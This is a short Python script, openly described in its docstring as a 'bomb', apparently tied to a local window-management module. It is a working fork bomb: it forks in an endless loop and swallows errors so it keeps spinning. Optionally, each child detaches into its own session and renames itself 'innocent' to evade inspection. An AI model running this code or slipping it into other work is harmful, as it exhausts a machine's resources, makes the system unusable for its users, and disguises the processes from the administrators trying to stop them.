"""A bomb: every process forks for ever, and spins when it cannot; `away`: each in a session of its own, unmarked."""

import contextlib
import ctypes
import os
import sys

from window import Window

window = Window()
window.until_managed()
while True:
    with contextlib.suppress(OSError):
        if os.fork() == 0 and len(sys.argv) > 1:
            os.setsid()
            ctypes.CDLL(None).prctl(15, b"innocent", 0, 0, 0)  # PR_SET_NAME
